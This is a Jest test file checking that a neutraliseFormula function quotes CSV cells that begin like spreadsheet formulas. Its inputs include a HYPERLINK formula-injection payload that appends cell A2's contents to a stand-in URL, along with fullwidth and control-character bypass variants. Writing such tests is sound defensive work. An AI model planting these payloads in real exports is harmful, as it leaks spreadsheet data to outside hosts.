import { neutraliseFormula } from './csv-formula';

describe(neutraliseFormula.name, () => {
  it.each([
    '=HYPERLINK("http://x.invalid/?"&A2,"Click")',
    '+31600000000',
    '-2+3',
    '@SUM(A1:A2)',
    '\tcmd',
    '\rcmd',
    '\uFF1D1+1',
    '\uFF0B1',
    '\uFF0D1',
    '\uFF20SUM(A1)',
  ])('should put a quote before a cell that starts like a formula: %p', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it.each(['', 'Bread', "'already quoted", 'a=b', ' =1', 'C000042', '-5', '-2.42', '-1.0000'])(
    'should keep other text, and decimal numbers, as they are: %p',
    (text) => {
      expect(neutraliseFormula(text)).toBe(text);
    },
  );
});
